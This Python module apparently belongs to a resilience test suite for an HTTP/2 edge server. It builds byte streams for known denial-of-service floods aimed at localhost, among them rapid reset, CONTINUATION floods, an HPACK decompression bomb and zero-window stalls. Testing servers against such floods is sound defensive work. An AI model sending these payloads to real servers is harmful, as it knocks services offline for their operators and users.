"""Floods of HTTP/2: a name, and what makes its bytes and says how many of what they hold."""

from benchmark.exchange import BODY, PUBLIC_KEY

from chaos import frames

FIELDS = [
    (":method", "POST"), (":scheme", "https"), (":path", "/v1/track"), (":authority", "localhost"),
    ("content-type", "application/json"), ("user-agent", "flood"),
]  # fmt: skip
# Answered at its head, without anybody upstream.
REFUSED = frames.block(FIELDS)
ACCEPTED = frames.block([*FIELDS, ("authorization", f"Bearer {PUBLIC_KEY}")])
COUNT = 3000


def open_stream(stream=1):
    return frames.headers(stream, ACCEPTED, end_stream=False)


def streams(make):
    return b"".join(make(2 * index + 1) for index in range(COUNT)), COUNT


def rapid_reset():
    """Requests that would go to Plunk."""
    return streams(
        lambda stream: open_stream(stream)
        + frames.frame(frames.DATA, frames.END_STREAM, stream, BODY)
        + frames.reset(stream)
    )


def provoked_resets():
    """The edge has to reset each: its window grows by nothing."""
    return streams(lambda stream: open_stream(stream) + frames.window_update(stream, 0))


def too_many_streams():
    return streams(open_stream)


def refusals():
    """Whole requests, each of which is answered."""
    return streams(lambda stream: frames.headers(stream, REFUSED))


def again(*made, before=b"", count=COUNT):
    return before + b"".join(made) * count, count


def continuation():
    head = frames.frame(frames.HEADERS, 0, 1, b"")
    return again(frames.frame(frames.CONTINUATION, 0, 1, frames.field("x", "a" * 100)), before=head)


def empty_continuation():
    head = frames.frame(frames.HEADERS, 0, 1, b"")
    return again(frames.frame(frames.CONTINUATION, 0, 1, b""), before=head)


def hpack_bomb():
    """4000 bytes once, then a byte for each time they are meant: 64 MB if they were unpacked."""
    block = REFUSED + frames.indexed_field("x-bomb", "b" * 4000)
    first = frames.headers(1, block)
    return first + frames.headers(3, REFUSED + frames.NEWEST_INDEXED * 16_000), 16_000


def unread():
    """A hundred requests whose answers have no window, over HTTP/2 in clear text."""
    greeting = frames.PREFACE + frames.settings([(frames.INITIAL_WINDOW_SIZE, 0)])
    return greeting + b"".join(frames.headers(2 * index + 1, REFUSED) for index in range(100))


FLOODS = {
    "rapid-reset": rapid_reset,
    "provoked-resets": provoked_resets,
    "streams": too_many_streams,
    "refusals": refusals,
    "ping": lambda: again(frames.frame(frames.PING, 0, 0, b"12345678")),
    "settings": lambda: again(frames.settings([(frames.INITIAL_WINDOW_SIZE, 100)])),
    "empty-data": lambda: again(frames.frame(frames.DATA, 0, 1, b""), before=open_stream()),
    "small-data": lambda: again(frames.frame(frames.DATA, 0, 1, b" "), before=open_stream()),
    "window-update": lambda: again(frames.window_update(0, 1)),
    "priority": lambda: again(frames.frame(frames.PRIORITY, 0, 3, b"\0\0\0\1\0")),
    "continuation": continuation,
    "empty-continuation": empty_continuation,
    "hpack-bomb": hpack_bomb,
}
